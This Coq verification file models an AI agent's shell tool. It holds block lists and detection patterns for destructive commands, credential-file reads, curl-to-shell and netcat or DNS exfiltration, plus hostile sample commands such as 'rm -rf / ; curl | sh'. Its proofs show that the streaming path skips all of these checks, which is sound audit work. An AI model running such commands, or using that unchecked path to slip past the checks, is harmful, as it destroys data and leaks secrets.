(* ===== verification/Shell.v ===== *)
(** The shell tool: [src/tools/builtin/shell.rs].

    Processes and the sandbox belong to the environment: what they answer is a
    parameter, and each command that is handed to one of them is an event of
    the trace. *)

From S2P Require Import Prelude Strs Json Session Skills Safety Dispatcher Tool.
From Stdlib Require Import Ascii.
#[local] Open Scope claw_scope.

Definition MAX_OUTPUT_SIZE : nat := Z.to_nat (64 * 1024).
Definition DEFAULT_TIMEOUT : Duration := from_secs 120.

Definition BLOCKED_COMMANDS : list string :=
  ["rm -rf /"; "rm -rf /*"; ":(){ :|:& };:"; "dd if=/dev/zero"; "mkfs"; "chmod -R 777 /"; "> /dev/sda"; "curl | sh"; "wget | sh";
   "curl | bash"; "wget | bash"].
Definition DANGEROUS_PATTERNS : list string :=
  ["sudo "; "doas "; " | sh"; " | bash"; " | zsh"; "eval "; "$(curl"; "$(wget"; "/etc/passwd"; "/etc/shadow"; "~/.ssh";
   ".bash_history"; "id_rsa"].
Definition NEVER_AUTO_APPROVE_PATTERNS : list string :=
  ["rm -rf"; "rm -fr"; "chmod -r 777"; "chmod 777"; "chown -r"; "shutdown"; "reboot"; "poweroff"; "init 0"; "init 6"; "iptables";
   "nft "; "useradd"; "userdel"; "passwd"; "visudo"; "crontab"; "systemctl disable"; "launchctl unload"; "kill -9"; "killall";
   "pkill"; "docker rm"; "docker rmi"; "docker system prune"; "git push --force"; "git push -f"; "git reset --hard"; "git clean -f";
   "DROP TABLE"; "DROP DATABASE"; "TRUNCATE"; "DELETE FROM"].
Definition SAFE_ENV_VARS : list string :=
  ["PATH"; "HOME"; "USER"; "LOGNAME"; "SHELL"; "TERM"; "COLORTERM"; "LANG"; "LC_ALL"; "LC_CTYPE"; "LC_MESSAGES"; "PWD"; "TMPDIR"; "TMP";
   "TEMP"; "XDG_RUNTIME_DIR"; "XDG_DATA_HOME"; "XDG_CONFIG_HOME"; "XDG_CACHE_HOME"; "CARGO_HOME"; "RUSTUP_HOME"; "NODE_PATH";
   "NPM_CONFIG_PREFIX"; "EDITOR"; "VISUAL"; "SystemRoot"; "SYSTEMROOT"; "ComSpec"; "PATHEXT"; "APPDATA"; "LOCALAPPDATA"; "USERPROFILE";
   "ProgramFiles"; "ProgramFiles(x86)"; "WINDIR"].

Definition requires_explicit_approval (command : string) : bool :=
  existsb (fun p => str_contains (to_lowercase command) (to_lowercase p)) NEVER_AUTO_APPROVE_PATTERNS.

(** ** Detection *)
(** [str::match_indices]: non-overlapping, from the left. *)
Fixpoint match_indices_n (n i : nat) (pat s : string) : list nat :=
  match n, s with
  | S n, String _ s' =>
      match strip_prefix s pat with
      | Some rest => i :: match_indices_n n (i + String.length pat) pat rest
      | None => match_indices_n n (S i) pat s'
      end
  | _, _ => []
  end.
Definition match_indices (s pat : string) : list nat := match_indices_n (String.length s) 0 pat s.

Definition TAB : ascii := chr 9.
Definition NL : ascii := chr 10.
Definition ends_word (c : ascii) : bool :=
  bool_decide (c ∈ [" "%char; TAB; NL; ";"%char; "|"%char; "&"%char; ")"%char]).
Definition starts_word (c : ascii) : bool :=
  bool_decide (c ∈ [" "%char; TAB; "|"%char; ";"%char; "&"%char; NL; "("%char]).

Definition has_pipe_to (lower shell : string) : bool :=
  existsb (fun prefix =>
      let pattern := prefix ++s shell in
      existsb (fun i => match String.get (i + String.length pattern) lower with None => true | Some c => ends_word c end)
        (match_indices lower pattern)) ["| "; "|"]%string.
Definition contains_shell_pipe (lower : string) : bool :=
  has_pipe_to lower "sh" || has_pipe_to lower "bash" || has_pipe_to lower "zsh" || has_pipe_to lower "dash"
  || has_pipe_to lower "/bin/sh" || has_pipe_to lower "/bin/bash".
Definition has_command_substitution (s : string) : bool := str_contains s "$(" || contains_char s "`"%char.
Definition has_command_token (lower token : string) : bool :=
  existsb (fun i => match i with O => true | S j => match String.get j lower with Some c => starts_word c | None => false end end)
    (match_indices lower token).

Definition detect_command_injection (cmd : string) : option string :=
  let lower := to_lowercase cmd in
  let has := str_contains lower in
  if contains_char cmd (chr 0) then Some "null byte in command"%string
  else if (has "base64 -d" || has "base64 --decode") && contains_shell_pipe lower
  then Some "base64 decode piped to shell"%string
  else if (has "printf" || has "echo -e" || has "echo $'") && (has "\x" || has "\0") && contains_shell_pipe lower
  then Some "encoded escape sequences piped to shell"%string
  else if (has "xxd -r" || has_command_token lower "od ") && contains_shell_pipe lower
  then Some "binary decode piped to shell"%string
  else if (has_command_token lower "dig " || has_command_token lower "nslookup " || has_command_token lower "host ")
          && has_command_substitution lower
  then Some "potential DNS exfiltration via command substitution"%string
  else if (has_command_token lower "nc " || has_command_token lower "ncat " || has_command_token lower "netcat ")
          && (contains_char lower "|"%char || contains_char lower "<"%char)
  then Some "netcat with data piping"%string
  else if has "curl" && (has "-d @" || has "-d@" || has "--data @" || has "--data-binary @" || has "--upload-file")
  then Some "curl posting file contents"%string
  else if has "wget" && has "--post-file" then Some "wget posting file contents"%string
  else if (has "| rev" || has "|rev") && contains_shell_pipe lower then Some "string reversal piped to shell"%string
  else None.

(** ** Output *)
Definition NLS : string := String NL EmptyString.
Definition truncate_output (s : string) : string :=
  if (String.length s <=? MAX_OUTPUT_SIZE)%nat then s
  else
    let half := (MAX_OUTPUT_SIZE / 2)%nat in
    let head_end := floor_char_boundary s half in
    let tail_start := floor_char_boundary s (String.length s - half) in
    String.substring 0 head_end s ++s NLS ++s NLS ++s "... [truncated " ++s pretty (String.length s - MAX_OUTPUT_SIZE)%nat
      ++s " bytes] ..." ++s NLS ++s NLS ++s String.substring tail_start (String.length s - tail_start) s.

(** The characters of a string of UTF-8: a byte that starts one, then the
    bytes that continue it. *)
Definition char_count (s : string) : nat := length (List.filter (fun c => negb (continuation c)) (chars s)).
Fixpoint take_chars (n : nat) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s =>
      if continuation c then String c (take_chars n s)
      else match n with O => EmptyString | S n => String c (take_chars n s) end
  end.
Definition truncate_for_error (s : string) : string := if (char_count s <=? 100)%nat then s else take_chars 100 s ++s "...".
Definition combine_output (stdout stderr : string) : string :=
  if is_empty stderr then stdout else if is_empty stdout then stderr else stdout ++s NLS ++s NLS ++s "--- stderr ---" ++s NLS ++s stderr.

(** ** Execution *)
Inductive SandboxPolicy := ReadOnly | WorkspaceWrite | FullAccess.
Inductive Launch :=
| Sandboxed (cmd workdir : string) (policy : SandboxPolicy)
| Direct (cmd workdir : string) (env : gmap string string).
Inductive Proc := SpawnFailed (e : string) | ProcTimeout | ProcIo (e : string) | Exited (stdout stderr : string) (code : option Z).

Section Shell.
  Context {W : Type}.
Record Sandbox := mkSandbox {
  is_initialized : bool; sb_enabled : bool;
  execute_with_policy : string -> string -> SandboxPolicy -> Duration -> W -> option (Result (string * Z) string) * W;
}.
Record ShellTool := mkShell {
  working_dir : option string; sh_timeout : Duration; allow_dangerous : bool; sandbox : option Sandbox; sandbox_policy : SandboxPolicy;
}.
Definition new_shell : ShellTool := mkShell None DEFAULT_TIMEOUT false None ReadOnly.

Definition is_blocked (t : ShellTool) (cmd : string) : option string :=
  let normalized := to_lowercase cmd in
  if existsb (str_contains normalized) BLOCKED_COMMANDS then Some "Command contains blocked pattern"%string
  else if negb (allow_dangerous t) && existsb (str_contains normalized) DANGEROUS_PATTERNS
  then Some "Command contains potentially dangerous pattern"%string
  else None.

Context (host_env : string -> option string) (current_dir : string).
Context (run_process run_streaming : string -> string -> gmap string string -> Duration -> W -> Proc * W).

Definition child_env (extra : gmap string string) : gmap string string :=
  extra ∪ list_to_map (omap (fun v => (fun x => (v, x)) <$> host_env v) SAFE_ENV_VARS).

Definition execute_sandboxed (t : ShellTool) (s : Sandbox) (cmd workdir : string) (timeout : Duration) (w : W)
  : Result (string * Z) ExecError * list Launch * W :=
  let '(r, w) := execute_with_policy s cmd workdir (sandbox_policy t) timeout w in
  (match r with
   | Some (Ok (output, code)) => Ok (truncate_output output, code)
   | Some (Err e) => Err (ExecutionFailed ("Sandbox error: " ++s e))
   | None => Err (ExecTimeout timeout)
   end, [Sandboxed cmd workdir (sandbox_policy t)], w).

Definition proc_result (timeout : Duration) (r : Proc) : Result (string * Z) ExecError :=
  match r with
  | SpawnFailed e => Err (ExecutionFailed ("Failed to spawn command: " ++s e))
  | ProcTimeout => Err (ExecTimeout timeout)
  | ProcIo e => Err (ExecutionFailed ("Command execution failed: " ++s e))
  | Exited out err code => Ok (truncate_output (combine_output out err), default (-1) code)
  end.
Definition execute_direct (cmd workdir : string) (timeout : Duration) (extra : gmap string string) (w : W)
  : Result (string * Z) ExecError * list Launch * W :=
  let env := child_env extra in
  let '(r, w) := run_process cmd workdir env timeout w in
  (proc_result timeout r, [Direct cmd workdir env], w).

(** The variant that passes the output on while it arrives; its messages for
    a failed read are part of the answer of the process. *)
Definition execute_direct_with_streaming (cmd workdir : string) (timeout : Duration) (extra : gmap string string) (w : W)
  : Result (string * Z) ExecError * list Launch * W :=
  let env := child_env extra in
  let '(r, w) := run_streaming cmd workdir env timeout w in
  (match r with ProcIo e => Err (ExecutionFailed e) | _ => proc_result timeout r end, [Direct cmd workdir env], w).

Definition work_dir (t : ShellTool) (workdir : option string) : string :=
  default (default current_dir (working_dir t)) workdir.
Definition time_limit (t : ShellTool) (timeout : option Z) : Duration := default (sh_timeout t) (from_secs <$> timeout).

Definition execute_command (t : ShellTool) (cmd : string) (workdir : option string) (timeout : option Z)
    (extra : gmap string string) (w : W) : Result (string * Z) ExecError * list Launch * W :=
  match is_blocked t cmd with
  | Some reason => (Err (NotAuthorized (reason ++s ": " ++s truncate_for_error cmd)), [], w)
  | None =>
      match detect_command_injection cmd with
      | Some reason =>
          (Err (NotAuthorized ("Command injection detected (" ++s reason ++s "): " ++s truncate_for_error cmd)), [], w)
      | None =>
          let cwd := work_dir t workdir in
          let limit := time_limit t timeout in
          match sandbox t with
          | Some s => if is_initialized s || sb_enabled s then execute_sandboxed t s cmd cwd limit w
                      else execute_direct cmd cwd limit extra w
          | None => execute_direct cmd cwd limit extra w
          end
      end
  end.

Definition shell_output (t : ShellTool) (r : string * Z) : Json :=
  JObject [("output"%string, JString r.1); ("exit_code"%string, JNumber (pretty r.2)); ("success"%string, JBool (r.2 =? 0));
           ("sandboxed"%string, JBool (bool_decide (is_Some (sandbox t))))].
Definition execute (t : ShellTool) (params : Json) (extra : gmap string string) (w : W)
  : Result Json ExecError * list Launch * W :=
  match require_str params "command" with
  | Err e => (Err e, [], w)
  | Ok command =>
      let '(r, l, w) := execute_command t command (get_str "workdir" params) (get_u64 "timeout" params) extra w in
      (match r with Ok x => Ok (shell_output t x) | Err e => Err e end, l, w)
  end.
(** [callback]: whether a callback for the output is given. *)
Definition execute_streaming (t : ShellTool) (params : Json) (extra : gmap string string) (callback : bool) (w : W)
  : Result Json ExecError * list Launch * W :=
  match require_str params "command" with
  | Err e => (Err e, [], w)
  | Ok command =>
      let workdir := get_str "workdir" params in
      let timeout := get_u64 "timeout" params in
      let use_direct := callback && negb (bool_decide (is_Some (sandbox t))) in
      let '(r, l, w) :=
        if use_direct then execute_direct_with_streaming command (work_dir t workdir) (time_limit t timeout) extra w
        else execute_command t command workdir timeout extra w in
      (match r with Ok x => Ok (shell_output t x) | Err e => Err e end, l, w)
  end.

Definition shell_requires_approval_for (from_str : string -> option Json) (params : Json) : bool :=
  let cmd := match get_str "command" params with
             | Some c => Some c
             | None => as_str params ≫= fun s => from_str s ≫= get_str "command"
             end in
  match cmd with Some c => requires_explicit_approval c | None => false end.
End Shell.
Arguments ShellTool : clear implicits.
Arguments Sandbox : clear implicits.

(** ** Lemmas on the detection *)
Lemma strip_prefix_app p r : strip_prefix (p ++s r) p = Some r.
Proof. by apply strip_prefix_spec. Qed.

Lemma match_indices_sound n i pat s k :
  k ∈ match_indices_n n i pat s -> exists a b, s = a ++s pat ++s b /\ k = (i + String.length a)%nat.
Proof.
  revert i s. induction n as [|n IH]; intros i s; [by intros ?%not_elem_of_nil|]. cbn [match_indices_n].
  destruct s as [|c s]; [by intros ?%not_elem_of_nil|]. destruct (strip_prefix (String c s) pat) as [rest|] eqn:E.
  - apply strip_prefix_spec in E. rewrite elem_of_cons. intros [->|Hk].
    + exists EmptyString, rest. split; [done|]. cbn. lia.
    + apply IH in Hk as (a & b & -> & ->). exists (pat ++s a), b. rewrite E, append_assoc_str. split; [done|].
      rewrite append_length_str. lia.
  - intros Hk. apply IH in Hk as (a & b & -> & ->). exists (String c a), b. split; [done|]. cbn. lia.
Qed.

(** A pattern whose first character occurs nowhere else in it cannot overlap
    itself, so all its occurrences are found. *)
Lemma split_at_fresh c p (a y rest : string) :
  contains_char p c = false -> a ++s String c y = p ++s rest -> exists a', a = p ++s a'.
Proof.
  revert a. induction p as [|e p IH]; intros a Hp Heq; [by exists a|].
  cbn in Hp. apply orb_false_iff in Hp as [He Hp]. destruct a as [|d a]; cbn in Heq.
  - injection Heq as -> _. by rewrite Ascii.eqb_refl in He.
  - injection Heq as -> Heq. destruct (IH a Hp Heq) as [a' ->]. by exists a'.
Qed.
Lemma append_inv_head (a b c : string) : a ++s b = a ++s c -> b = c.
Proof. induction a as [|x a IH]; cbn; [done|]. intros [= H]. by apply IH. Qed.

Lemma match_indices_complete c p n i a b :
  contains_char p c = false -> let pat := String c p in
  (String.length (a ++s pat ++s b) <= n)%nat -> (i + String.length a)%nat ∈ match_indices_n n i pat (a ++s pat ++s b).
Proof.
  intros Hp pat. revert i a. induction n as [|n IH]; intros i a Hn; [rewrite !append_length_str in Hn; cbn in Hn; lia|].
  cbn [match_indices_n]. destruct (a ++s pat ++s b) as [|d s] eqn:Es; [by destruct a|].
  destruct (strip_prefix (String d s) pat) as [rest|] eqn:E.
  - apply strip_prefix_spec in E. destruct a as [|d' a]; [cbn [String.length]; rewrite Nat.add_0_r; left|]. right.
    rewrite E in Es. cbn in Es. injection Es as -> Es. destruct (split_at_fresh c p a (p ++s b) rest Hp Es) as [a' ->].
    rewrite append_assoc_str in Es. apply append_inv_head in Es. change (String c (p ++s b)) with (pat ++s b) in Es.
    assert (String.length (String d s) <= S n)%nat as Hn' by done. rewrite E, <- Es, append_length_str in Hn'. cbn in Hn'.
    rewrite <- Es. replace (i + String.length (String c (p ++s a')))%nat with ((i + String.length pat) + String.length a')%nat.
    + apply IH. lia.
    + cbn. rewrite append_length_str. lia.
  - destruct a as [|d' a]; [exfalso; cbn in Es; injection Es as <- <-; by rewrite (strip_prefix_app pat b : strip_prefix (String c (p ++s b)) pat = _) in E|].
    cbn in Es. injection Es as -> <-. replace (i + String.length (String d a))%nat with (S i + String.length a)%nat by (cbn; lia).
    apply IH. cbn in Hn. lia.
Qed.

Lemma get_app_r a b k : String.get (String.length a + k) (a ++s b) = String.get k b.
Proof. induction a as [|c a IH]; [done|]. cbn. apply IH. Qed.
Definition first_char (s : string) : option ascii := match s with EmptyString => None | String c _ => Some c end.
Lemma get_first s : String.get 0 s = first_char s.
Proof. by destruct s. Qed.

(** An occurrence of [pat], judged by the character behind it. *)
Lemma existsb_after c p s (good : option ascii -> bool) :
  contains_char p c = false -> let pat := String c p in
  existsb (fun i => good (String.get (i + String.length pat) s)) (match_indices s pat) = true
  <-> exists a b, s = a ++s pat ++s b /\ good (first_char b) = true.
Proof.
  intros Hp pat. unfold match_indices. rewrite existsb_exists. split.
  - intros (k & Hk%list_elem_of_In & Hg). apply match_indices_sound in Hk as (a & b & -> & ->). exists a, b. split; [done|].
    cbn [Nat.add] in Hg. by rewrite get_app_r, <- (Nat.add_0_r (String.length pat)), get_app_r, get_first in Hg.
  - intros (a & b & -> & Hg). exists (String.length a). split.
    + apply list_elem_of_In. apply (match_indices_complete c p _ 0 a b Hp). done.
    + by rewrite get_app_r, <- (Nat.add_0_r (String.length pat)), get_app_r, get_first.
Qed.

Definition word_end (o : option ascii) : bool := match o with None => true | Some c => ends_word c end.

(** A pipe to a shell: a bar, at most one space, the shell, and the end of a word. *)
Lemma has_pipe_to_spec lower shell :
  contains_char shell "|"%char = false ->
  has_pipe_to lower shell = true <->
  exists a sp b, lower = a ++s "|" ++s sp ++s shell ++s b /\ (sp = EmptyString \/ sp = " "%string) /\ word_end (first_char b) = true.
Proof.
  intros Hs. unfold has_pipe_to. cbn [existsb]. rewrite orb_false_r, orb_true_iff.
  rewrite (existsb_after "|"%char (" " ++s shell) lower word_end) by done. rewrite (existsb_after "|"%char shell lower word_end) by done.
  split.
  - intros [(a & b & -> & H)|(a & b & -> & H)]; exists a; [exists " "%string, b|exists EmptyString, b]; auto.
  - intros (a & sp & b & -> & [-> | ->] & H); [right|left]; by exists a, b.
Qed.

Lemma to_lowercase_contains s p :
  str_contains s p = true -> str_contains (to_lowercase s) (to_lowercase p) = true.
Proof.
  rewrite !str_contains_spec. intros (a & b & ->). exists (to_lowercase a), (to_lowercase b). by rewrite !to_lowercase_app.
Qed.
Lemma lower_char_not_upper c : ascii_between 65 90 (lower_char c) = false.
Proof. by destruct c as [[] [] [] [] [] [] [] []]. Qed.
Lemma lowercase_no_upper s p c : ascii_between 65 90 c = true -> contains_char p c = true -> str_contains (to_lowercase s) p = false.
Proof.
  intros Hc Hp. apply not_true_iff_false. rewrite str_contains_spec. intros (a & b & Heq).
  assert (contains_char (to_lowercase s) c = false) as Hno.
  { clear Heq. induction s as [|d s IH]; [done|]. cbn. rewrite IH, orb_false_r. apply not_true_iff_false.
    intros ->%Ascii.eqb_eq. by rewrite lower_char_not_upper in Hc. }
  rewrite Heq in Hno. clear Heq. induction a as [|d a IH]; cbn in Hno; [|by apply orb_false_iff in Hno as [_ Hno]; apply IH].
  induction p as [|d p IH]; [done|]. cbn in Hp, Hno. apply orb_false_iff in Hno as [H1 H2]. rewrite H1 in Hp. by apply IH.
Qed.

(** ** Lemmas on the output *)
Lemma substring_split k s : (k <= String.length s)%nat ->
  s = String.substring 0 k s ++s String.substring k (String.length s - k) s
  /\ String.length (String.substring 0 k s) = k
  /\ String.length (String.substring k (String.length s - k) s) = (String.length s - k)%nat.
Proof.
  revert k. induction s as [|c s IH]; intros [|k] Hk; cbn in *; try lia.
  - done.
  - destruct (IH 0%nat ltac:(lia)) as (H1 & _ & H3). rewrite Nat.sub_0_r in *.
    assert (String.substring 0 0 s = EmptyString) as E by by destruct s. rewrite E in H1. cbn in H1.
    split; [exact (f_equal (String c) H1)|]. split; [done|]. by rewrite H3.
  - destruct (IH k ltac:(lia)) as (H1 & H2 & H3). split; [rewrite append_cons_str; f_equal; exact H1|]. split; [by rewrite H2|exact H3].
Qed.

Lemma MAX_OUTPUT_half : MAX_OUTPUT_SIZE = (MAX_OUTPUT_SIZE / 2 + MAX_OUTPUT_SIZE / 2)%nat /\ (3 <= MAX_OUTPUT_SIZE / 2)%nat.
Proof.
  assert (MAX_OUTPUT_SIZE = Z.to_nat 32768 * 2)%nat as E by (unfold MAX_OUTPUT_SIZE; lia).
  rewrite E, Nat.div_mul by lia. lia.
Qed.

(** ** The tool in the agent

    The dispatcher's interface to the tool; the world remembers what was
    launched. *)
Section Agent.
  Context {W : Type} (host_env : string -> option string) (current_dir : string).
  Context (run_process run_streaming : string -> string -> gmap string string -> Duration -> W -> Proc * W).
  Context (from_str : string -> option Json) (show : Duration -> string) (extra : gmap string string).
  Abbreviation World := (list Launch * W)%type.

Definition shell_agent_tool (t : ShellTool W) : AgentTool World :=
  mkTool _ "Execute shell commands." true (shell_requires_approval_for from_str) (from_secs 60)
    (fun live params sh =>
       let '(r, l, w) :=
         if live then execute_streaming host_env current_dir run_process run_streaming t params extra true (snd (sh_world sh))
         else execute host_env current_dir run_process t params extra (snd (sh_world sh)) in
       (Some (match r with Ok v => Ok v | Err e => Err (exec_error_display show e) end),
        mkShared _ (fst (sh_world sh) ++ l, w) (sh_sess sh) (sh_guard sh))).
End Agent.

(** ** Properties *)
Section Claims.
  Context {W : Type} (host_env : string -> option string) (current_dir : string).
  Context (run_process run_streaming : string -> string -> gmap string string -> Duration -> W -> Proc * W).
  Implicit Types (t : ShellTool W) (extra : gmap string string).

Lemma child_env_safe extra v x : child_env host_env extra !! v = Some x -> is_Some (extra !! v) \/ v ∈ SAFE_ENV_VARS.
Proof.
  unfold child_env. rewrite lookup_union_Some_raw. intros [H|[_ H]]; [left; by eexists|right].
  apply elem_of_list_to_map_2 in H. apply list_elem_of_omap in H as (v' & Hv & Hx).
  destruct (host_env v'); [|done]. by injection Hx as -> ->.
Qed.

Lemma pipe_injection cmd :
  str_contains (to_lowercase cmd) "base64 -d" = true -> contains_shell_pipe (to_lowercase cmd) = true ->
  is_Some (detect_command_injection cmd).
Proof.
  intros H1 H2. unfold detect_command_injection. destruct (contains_char cmd (chr 0)); [by eexists|].
  rewrite H1, H2. by eexists.
Qed.


(** The streaming variant, which the dispatcher uses for every shell command
    of a conversation, skips all of this: without a sandbox, any command that
    the parameter validation accepts is started on the host, whatever the
    blocked and dangerous patterns and the injection checks say of it. *)
Theorem streamed_commands_unchecked (E : Deps (list Launch * W)) from_str show extra t cmd params (st : DState (list Launch * W)) :
  sandbox t = None -> get_str "command" params = Some cmd -> is_valid (validate_tool_params (validator E) params) = true ->
  get_tool E "shell" (world st) = Some (shell_agent_tool host_env current_dir run_process run_streaming from_str show extra t) ->
  let st' := snd (execute_chat_tool E "shell" params true st) in
  exists wd, fst (world st') = fst (world st) ++ [Direct cmd wd (child_env host_env extra)].
Proof.
  intros Hs Hc Hv Ht. unfold execute_chat_tool. rewrite Ht, Hv. cbn [negb shell_agent_tool t_execute].
  unfold execute_streaming, require_str. rewrite Hc, Hs. cbn [negb andb]. rewrite bool_decide_false by by intros []. cbn [negb].
  unfold execute_direct_with_streaming. exists (work_dir current_dir t (get_str "workdir" params)).
  destruct (run_streaming _ _ _ _ _) as [r w']. cbn.
  reflexivity.
Qed.

(** Of the blocked commands one can never match: commands are compared in
    lower case, and that entry has a capital letter. *)
Theorem chmod_entry_dead t cmd :
  existsb (str_contains (to_lowercase cmd)) BLOCKED_COMMANDS
  = existsb (str_contains (to_lowercase cmd)) (List.filter (fun p => negb (String.eqb p "chmod -R 777 /")) BLOCKED_COMMANDS)
  /\ is_blocked t "chmod -R 777 /" = None.
Proof.
  split.
  - cbn [BLOCKED_COMMANDS existsb List.filter negb String.eqb]. cbn [Ascii.eqb Bool.eqb negb].
    rewrite (lowercase_no_upper cmd "chmod -R 777 /" "R"%char) by done. done.
  - unfold is_blocked. vm_compute (existsb _ BLOCKED_COMMANDS). vm_compute (existsb _ DANGEROUS_PATTERNS). by rewrite andb_false_r.
Qed.

(** Destructive commands are never approved in advance: whatever the letter
    case, a command with one of the listed patterns needs an approval of its
    own, also after the tool was approved for the session. *)
Theorem destructive_commands_ask (sess : Session Json) from_str show extra t (tc : Llm.ToolCall Json) cmd p :
  get_str "command" (Llm.tc_arguments tc) = Some cmd -> p ∈ NEVER_AUTO_APPROVE_PATTERNS ->
  str_contains (to_lowercase cmd) (to_lowercase p) = true ->
  needs_approval (shell_agent_tool host_env current_dir run_process run_streaming from_str show extra t) sess tc = true.
Proof.
  intros Hc Hp Hcmd. unfold needs_approval. cbn [shell_agent_tool requires_approval requires_approval_for andb].
  assert (shell_requires_approval_for from_str (Llm.tc_arguments tc) = true) as ->; [|by rewrite andb_false_r].
  unfold shell_requires_approval_for. rewrite Hc. unfold requires_explicit_approval. apply existsb_exists. exists p. split; [|done].
  by apply list_elem_of_In.
Qed.

(** Long output is cut in the middle, at character boundaries: the result
    keeps a start of at most half of the limit and an end of at least the
    other half, at most three bytes more (in UTF-8 a character has at most
    three continuation bytes); shorter output is unchanged. *)
Theorem truncate_output_spec s :
  ((String.length s <= MAX_OUTPUT_SIZE)%nat -> truncate_output s = s)
  /\ ((MAX_OUTPUT_SIZE < String.length s)%nat ->
      exists h mid tl x y, truncate_output s = h ++s mid ++s tl /\ s = h ++s x /\ s = y ++s tl
        /\ is_char_boundary s (String.length h) = true /\ is_char_boundary s (String.length y) = true
        /\ (String.length h <= MAX_OUTPUT_SIZE / 2)%nat /\ (MAX_OUTPUT_SIZE / 2 <= String.length tl)%nat
        /\ (String.length h + String.length tl <= String.length s)%nat
        /\ ((forall i, (3 <= i)%nat -> exists j, (j <= 3)%nat /\ is_char_boundary s (i - j) = true) ->
            (String.length tl <= MAX_OUTPUT_SIZE / 2 + 3)%nat)).
Proof.
  unfold truncate_output. pose proof MAX_OUTPUT_half as [Hm H3]. revert Hm H3.
  generalize (MAX_OUTPUT_SIZE / 2)%nat as half. generalize MAX_OUTPUT_SIZE as M. intros M half Hm H3.
  split; intros H; [by rewrite (proj2 (Nat.leb_le _ _) H)|]. rewrite (proj2 (Nat.leb_gt _ _) H).
  set (n := String.length s) in *.
  destruct (floor_char_boundary_spec s half) as (A1 & A2 & A3 & _).
  destruct (floor_char_boundary_spec s (n - half)) as (B1 & B2 & B3 & B4).
  set (a := floor_char_boundary s half) in *. set (b := floor_char_boundary s (n - half)) in *.
  destruct (substring_split a s A2) as (S1 & S2 & _). destruct (substring_split b s B2) as (T1 & T2 & T3). fold n in T1, T3.
  assert (a <= b)%nat as Hab by (destruct (decide (a <= b)%nat); [done|]; rewrite B4 in A3 by lia; done).
  exists (String.substring 0 a s), (NLS ++s NLS ++s "... [truncated " ++s pretty (n - M)%nat ++s " bytes] ..." ++s NLS ++s NLS), (String.substring b (n - b) s). do 2 eexists.
  split; [generalize (pretty (n - M)%nat) as num; intros num; rewrite !append_assoc_str; reflexivity|]. split; [exact S1|]. split; [exact T1|]. rewrite S2, T2, T3. fold n.
  split; [done|]. split; [done|]. split; [lia|]. split; [lia|]. split; [lia|]. intros Hu. destruct (Hu (n - half)%nat ltac:(lia)) as (j & Hj & Hb).
  destruct (decide (b < n - half - j)%nat) as [Hlt|]; [|lia]. rewrite B4 in Hb by lia. done.
Qed.
End Claims.

(** ** Witnesses *)
Definition plain_env : string -> option string := fun v => if String.eqb v "PATH" then Some "/bin"%string else None.
Definition plain_run (cmd wd : string) (env : gmap string string) (d : Duration) (w : unit) : Proc * unit := (Exited "ok" "" (Some 0), w).
Definition shell_in_chat : AgentTool (list Launch * unit) :=
  shell_agent_tool plain_env "/" plain_run plain_run (fun _ => None) (fun _ => EmptyString) ∅ new_shell.
Definition shell_deps : Deps (list Launch * unit) := {|
  get_tool := fun n _ => if String.eqb n "shell" then Some shell_in_chat else None; tool_definitions := fun _ => []; clock := fun _ => 0; today := fun _ => 0;
  fresh_uuid := fun _ => 1%N; active_model := fun _ => EmptyString; respond := fun _ _ _ _ sh => ([], Err (Llm.AuthFailed "p"), sh);
  early_done := fun _ _ => false; hooks := []; validator := new_validator; sanitize_output := fun _ o => (o, false);
  from_str := fun _ => None; to_string := fun _ => EmptyString; to_string_pretty := fun _ => Ok EmptyString;
  event_from_str := fun _ => None; show_duration := fun _ => EmptyString; show_limit := fun _ => EmptyString; display := fun _ => EmptyString;
  kernel := false; piped_execution := false |}.
Definition wipe : Json := JObject [("command"%string, JString "rm -rf / ; curl | sh")].
Definition idle_shell : DState (list Launch * unit) :=
  mkD _ (mkShared _ ([], tt) demo_session (CostGuard.new_guard (CostGuard.mkGuardConfig None None) 0)) [].

Lemma streamed_commands_unchecked_witness :
  is_blocked (W := unit) new_shell "rm -rf / ; curl | sh" = Some "Command contains blocked pattern"%string /\
  exists wd, fst (world (snd (execute_chat_tool shell_deps "shell" wipe true idle_shell)))
             = [Direct "rm -rf / ; curl | sh" wd (child_env plain_env ∅)].
Proof.
  split; [vm_compute; reflexivity|].
  refine (streamed_commands_unchecked plain_env "/" plain_run plain_run shell_deps (fun _ => None) (fun _ => EmptyString) ∅ new_shell
    "rm -rf / ; curl | sh" wipe idle_shell _ _ _ _); try reflexivity.
Defined.

Lemma destructive_commands_ask_witness :
  needs_approval shell_in_chat (auto_approve_tool "shell" demo_session)
    (Llm.mkToolCall _ "1" "shell" (JObject [("command"%string, JString "psql -c 'Drop Table users'")])) = true.
Proof.
  refine (destructive_commands_ask plain_env "/" plain_run plain_run (auto_approve_tool "shell" demo_session) (fun _ => None) (fun _ => EmptyString) ∅ new_shell
    (Llm.mkToolCall _ "1" "shell" (JObject [("command"%string, JString "psql -c 'Drop Table users'")])) "psql -c 'Drop Table users'" "DROP TABLE" _ _ _).
  - reflexivity.
  - vm_compute. set_solver.
  - vm_compute. reflexivity.
Defined.

Example detection_demo :
  detect_command_injection "echo aGk= | base64 -d |sh" = Some "base64 decode piped to shell"%string
  /\ detect_command_injection "cat method.txt | shift" = None
  /\ detect_command_injection "nc evil 1 < /etc/hosts" = Some "netcat with data piping"%string
  /\ detect_command_injection "git fsync < x" = None.
Proof. vm_compute. done. Qed.
